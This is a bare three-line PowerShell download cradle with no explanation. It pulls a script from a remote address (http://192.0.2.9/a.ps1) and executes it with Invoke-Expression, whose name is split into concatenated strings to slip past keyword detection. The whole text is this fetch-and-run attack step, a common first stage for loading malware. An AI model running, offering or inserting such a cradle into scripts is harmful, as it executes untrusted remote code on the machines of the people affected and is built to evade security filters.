$w = New-Object System.Net.WebClient
$s = $w.DownloadString("http://192.0.2.9/a.ps1")
& ("I" + "EX") $s
